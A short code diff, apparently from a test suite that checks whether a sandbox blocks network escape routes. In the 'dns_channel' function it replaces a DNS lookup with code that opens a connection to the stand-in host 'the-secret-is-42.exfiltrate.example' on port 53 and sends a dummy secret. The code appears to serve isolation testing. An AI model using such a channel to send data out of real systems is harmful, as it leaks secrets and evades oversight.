@@ -84,7 +84,9 @@ def internet_by_name():
 
 
 def dns_channel():
-    return socket.gethostbyname("the-secret-is-42.exfiltrate.example")
+    with socket.create_connection(("the-secret-is-42.exfiltrate.example", 53)) as server:
+        server.sendall(b"the secret is 42")
+        return server.recv(100)
 
 
 def git_hook():
